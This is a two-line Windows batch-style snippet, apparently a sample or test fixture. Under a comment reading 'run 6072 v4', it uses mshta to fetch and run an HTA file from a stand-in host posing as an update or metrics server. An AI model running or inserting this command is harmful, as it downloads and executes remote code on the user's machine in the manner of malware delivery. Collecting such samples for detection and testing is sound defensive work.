REM run 6072 v4
mshta http://static.metrics-node.example/update.hta
